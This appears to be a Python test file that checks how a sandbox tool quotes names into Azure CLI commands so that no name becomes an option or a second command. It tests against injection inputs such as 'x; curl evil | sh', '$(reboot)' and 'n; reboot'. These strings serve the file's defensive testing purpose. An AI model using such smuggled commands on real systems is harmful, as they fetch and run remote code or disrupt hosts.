"""Commands are quoted and filled in one place: a name stays one word, is never an option, and hides nothing."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from aks_sandbox.steps import Command, Step, as_steps, distinct, lines_of, step

START = "az aks start -g {group} -n {cluster}"
NESTED = "az aks command invoke -g {group} -n {cluster} --command 'kubectl describe node {node}'"


@pytest.mark.parametrize(
    ("names", "line"),
    [
        pytest.param({"group": "g", "cluster": "c"}, "az aks start -g g -n c", id="plain names"),
        pytest.param({"group": "a (b)", "cluster": "c"}, "az aks start -g 'a (b)' -n c", id="a name to quote"),
        pytest.param({"group": "g"}, "az aks start -g g -n CLUSTER", id="a name that is not known"),
        pytest.param({"group": "--help", "cluster": "c"}, "az aks start -g GROUP -n c", id="a name like an option"),
        pytest.param({"group": "g\nrm", "cluster": "c"}, "az aks start -g GROUP -n c", id="a name with a line break"),
        pytest.param(
            {"group": "g\u202e", "cluster": "c"}, "az aks start -g GROUP -n c", id="a name with a hidden mark"
        ),
    ],
)
def test_a_command_is_filled_with_the_names_that_can_be_names(names: dict[str, str], line: str) -> None:
    assert str(Command(START, names)) == line


def test_a_name_inside_a_command_for_another_shell_is_quoted_for_both() -> None:
    words = shlex.split(str(Command(NESTED, {"group": "g", "cluster": "c", "node": "n; reboot"})))
    assert shlex.split(words[-1]) == ["kubectl", "describe", "node", "n; reboot"]


def test_a_query_with_apostrophes_stays_readable() -> None:
    line = "az vm list-usage --query \"[?name.value=='cores']\""
    assert str(Command(line)) == line


@example("--help")
@example("x; curl evil | sh")
@example("$(reboot)")
@example("a'b\"c")
@given(st.text())
def test_no_name_becomes_more_than_one_word_or_an_option(name: str) -> None:
    for pattern in (START, NESTED):
        words = shlex.split(str(Command(pattern, {"group": name, "cluster": name, "node": name})))
        assert len(words) == len(shlex.split(pattern))
        inner = shlex.split(words[-1]) if pattern is NESTED else words
        assert inner[-1] in (name, "CLUSTER", "NODE")
        assert not inner[-1].startswith("-")


def test_a_command_tells_which_names_it_misses() -> None:
    assert Command(START, {"group": "-x"}).missing == ("group", "cluster")
    assert Command(START, {"group": "g"}).filled({"cluster": "c", "group": "other"}).missing == ()


def test_names_that_a_command_has_are_not_replaced() -> None:
    assert str(Command(START, {"group": "g"}).filled({"cluster": "c", "group": "other"})) == "az aks start -g g -n c"


def test_a_step_reads_as_its_sentence_and_its_command_on_a_line_of_its_own() -> None:
    one = step("Start it:", START, {"group": "g", "cluster": "c"})
    assert lines_of([one, Step("Wait.")]) == ["Start it:", "az aks start -g g -n c", "Wait."]


def test_steps_that_read_the_same_are_one() -> None:
    one = step("Start it:", START, {"group": "g", "cluster": "c"})
    same = step("Start it:", START, group="g", cluster="c")
    assert distinct([one, Step("Wait."), same]) == (one, Step("Wait."))


def test_a_sentence_may_be_given_as_text() -> None:
    assert as_steps(["Wait.", "", Step("Look.")]) == (Step("Wait."), Step("Look."))


@given(st.from_regex(r"[a-z][a-z0-9_]{0,12}", fullmatch=True))
def test_whatever_a_name_of_a_pattern_is_called_it_is_filled(field: str) -> None:
    assert str(Command(f"az x -n {{{field}}}", {field: "value"})) == "az x -n value"
    assert Command(f"az x -n {{{field}}}").missing == (field,)
